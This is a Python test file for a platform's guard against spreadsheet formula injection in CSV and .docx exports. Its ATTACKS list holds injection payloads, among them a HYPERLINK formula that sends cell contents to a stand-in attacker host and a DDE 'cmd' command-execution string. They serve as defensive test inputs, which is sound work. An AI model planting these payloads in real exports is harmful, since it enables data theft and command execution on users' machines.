"""No cell the platform writes starts a formula in a spreadsheet (issue 13, point 3): the guard itself, and
every CSV and .docx export fed a comment written as a formula."""
from __future__ import annotations

import csv
import io

import docx
import pytest

from config.spreadsheets import spreadsheet_safe

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_would_start_a_formula_is_written_as_text(attack):
    assert spreadsheet_safe(attack) == "'" + attack


def test_plain_text_and_numbers_are_left_alone():
    assert spreadsheet_safe("Plain words = fine") == "Plain words = fine"
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(3.5) == 3.5 and spreadsheet_safe(None) == ""


def test_the_tables_csv_and_docx_neutralise_formulas():
    from dataclasses import dataclass

    from comments.concerns.exports import table_csv_lines, table_docx

    @dataclass
    class Row:
        element: str
        comment: str

    rows = [Row("Article 1", "=1+1"), Row("Article 2", "@SUM(A1)")]
    written = "".join(table_csv_lines(["element", "comment"], rows))
    cells = [cell for row in csv.reader(io.StringIO(written.lstrip("\ufeff"))) for cell in row]
    assert "'=1+1" in cells and "'@SUM(A1)" in cells
    document = docx.Document(io.BytesIO(table_docx(title="Summary", columns=["element", "comment"], rows=rows)))
    texts = [cell.text for row in document.tables[0].rows for cell in row.cells]
    assert "'=1+1" in texts and "'@SUM(A1)" in texts
